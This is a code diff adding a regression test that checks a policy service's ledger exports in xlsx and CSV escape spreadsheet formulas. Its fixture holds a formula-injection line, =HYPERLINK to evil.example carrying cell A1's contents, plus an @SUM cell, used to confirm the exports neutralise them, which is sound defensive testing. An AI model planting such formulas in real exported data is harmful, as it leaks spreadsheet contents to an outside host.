@@ -414,3 +414,32 @@ def _wait_until_serving(url: str, proc: subprocess.Popen, timeout: float = 180) 
                 return
         time.sleep(0.5)
     raise AssertionError(f"policyqa serve did not come up on {url}")
+
+
+# ---- exports ------------------------------------------------------------------------------
+
+
+FORMULA_POLICY = """=HYPERLINK("http://evil.example/?"&A1,"点击查看")测试工作方案
+
+一、重点任务
+
+1.@SUM(1+1)建设测试平台。2023年底前建成测试平台不少于5个。(市测试局负责)
+"""
+
+
+def test_ledger_downloads_carry_no_formulas(client) -> None:
+    """Issue 19: a measure text "=HYPERLINK(…)" came out of GET /v1/ledger as a live .xlsx formula and
+    an unescaped CSV cell."""
+    assert _upload(client, "formula.txt", FORMULA_POLICY.encode(), "text/plain").status_code == 201
+    try:
+        xlsx = client.get("/v1/ledger", params={"doc": "formula.txt", "format": "xlsx"})
+        csv_text = client.get("/v1/ledger", params={"doc": "formula.txt", "format": "csv"})
+    finally:
+        client.delete("/v1/documents/formula.txt")
+    assert xlsx.status_code == 200 and csv_text.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    assert '"\'=HYPERLINK(' in csv_text.text or "\'=HYPERLINK(" in csv_text.text
+    assert "\'@SUM(1+1)建设测试平台" in csv_text.text
+    assert not any(line.startswith(("=", "@")) or ",=" in line or ",@" in line for line in csv_text.text.splitlines())
